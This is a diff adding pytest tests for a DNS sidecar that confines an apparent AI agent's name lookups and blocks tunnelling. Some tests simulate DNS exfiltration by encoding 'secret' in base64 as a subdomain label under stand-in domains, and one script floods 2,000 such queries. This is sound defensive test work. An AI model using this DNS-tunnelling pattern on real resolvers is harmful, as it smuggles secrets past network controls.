@@ -1,0 +1,94 @@
+"""Names, as the agent looks them up: the catalogue's lead to the sidecar, and no other carries anything out."""
+
+import hashlib
+import json
+
+import pytest
+
+from tests.net.pod import AGENT_UID, Pod
+from tests.net.test_bypass import nobody_hears
+from tests.net.test_reach import COMMENT, comment
+from tests.net.world import ELSEWHERE, ELSEWHERE6, METADATA, UPSTREAM
+
+LOOK_UP = """
+import json, sys
+import dns.message, dns.query
+over, host, name, kind = sys.argv[1:]
+query = dns.message.make_query(name, kind, use_edns=0)
+answer = getattr(dns.query, over)(query, host, timeout=20)
+assert query.is_response(answer)
+print(json.dumps([answer.rcode().name, [str(one) for found in answer.answer for one in found]]))
+"""
+RESOLVE = """
+import json, socket, sys
+try:
+    print(json.dumps(sorted({found[4][0] for found in socket.getaddrinfo(sys.argv[1], 80)})))
+except socket.gaierror as error:
+    print(json.dumps(error.errno == socket.EAI_NONAME))
+"""
+FLOOD = """
+import socket, sys
+import dns.message
+with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
+    sock.connect((sys.argv[1], 53))
+    for number in range(2000):
+        sock.send(dns.message.make_query(f"c2VjcmV0.{number}.elsewhere.example", "TXT").to_wire())
+"""
+RESOLVERS = [ELSEWHERE, UPSTREAM, METADATA, ELSEWHERE6, "127.0.0.1", "::1"]
+
+
+def look_up(pod: Pod, over: str, host: str, name: str, kind: str = "A") -> tuple[str, list[str]]:
+    rcode, found = json.loads(pod.try_python(LOOK_UP, over, host, name, kind))
+    return rcode, found
+
+
+def test_an_agent_resolves_the_catalogues_names_and_no_other(pod):
+    """By its C library, from no file."""
+    assert "internal" not in pod.agent("cat", "/etc/hosts").out
+    with nobody_hears(pod):
+        assert json.loads(pod.try_python(RESOLVE, "desk.internal")) == [ELSEWHERE, ELSEWHERE6]
+        assert json.loads(pod.try_python(RESOLVE, "elsewhere.example")) is True
+    with pod.task(COMMENT):
+        for family in ("--ipv4", "--ipv6"):
+            assert comment(pod, "hello", family)[0] == 200
+
+
+@pytest.mark.parametrize("host", RESOLVERS)
+@pytest.mark.parametrize("over", ["udp", "tcp"])
+def test_whatever_resolver_is_asked_the_sidecar_answers(pod, over, host):
+    with nobody_hears(pod):
+        assert look_up(pod, over, host, "Desk.Internal") == ("NOERROR", [ELSEWHERE])
+        assert look_up(pod, over, host, "desk.internal", "AAAA") == ("NOERROR", [ELSEWHERE6])
+        assert look_up(pod, over, host, "desk.internal", "HTTPS") == ("NOERROR", [])
+        assert look_up(pod, over, host, "c2VjcmV0.t.elsewhere.example", "TXT") == ("NXDOMAIN", [])
+
+
+def test_a_look_up_that_is_refused_is_on_record_without_what_it_carried(pod):
+    with nobody_hears(pod):
+        assert look_up(pod, "udp", ELSEWHERE, "c2VjcmV0.carried.example")[0] == "NXDOMAIN"
+        digest = hashlib.sha256(b"c2vjcmv0.carried.example.").hexdigest()[:16]
+        record = pod.recorded(listener="dns", dialled=f"….carried.example (sha256:{digest})")
+        assert (record["code"], record["uid"], record["server"]) == ("unknown_server", AGENT_UID, "")
+    assert b"c2VjcmV0" not in (pod.directory / "audit.jsonl").read_bytes()
+
+
+def test_a_name_that_is_known_leads_to_the_same_address_every_time(pod):
+    """There is nothing to rebind: whatever it is asked, and however often."""
+    with nobody_hears(pod):
+        for _ in range(5):
+            assert look_up(pod, "udp", ELSEWHERE, "tools.internal") == ("NOERROR", [ELSEWHERE])
+
+
+def test_a_flood_carries_nothing_out_and_look_ups_go_on(pod):
+    with nobody_hears(pod):
+        pod.try_python(FLOOD, ELSEWHERE)
+        assert pod.recorded(listener="dns", code="overloaded")
+        assert look_up(pod, "udp", ELSEWHERE, "desk.internal") == ("NOERROR", [ELSEWHERE])
+    assert b"c2VjcmV0" not in (pod.directory / "audit.jsonl").read_bytes()
+
+
+def test_another_sidecar_answers_as_the_first_did(pod):
+    with nobody_hears(pod):
+        pod.wait_for_another(pod.kill_sidecar())
+        pod.enrol()
+        assert json.loads(pod.try_python(RESOLVE, "desk.internal")) == [ELSEWHERE, ELSEWHERE6]
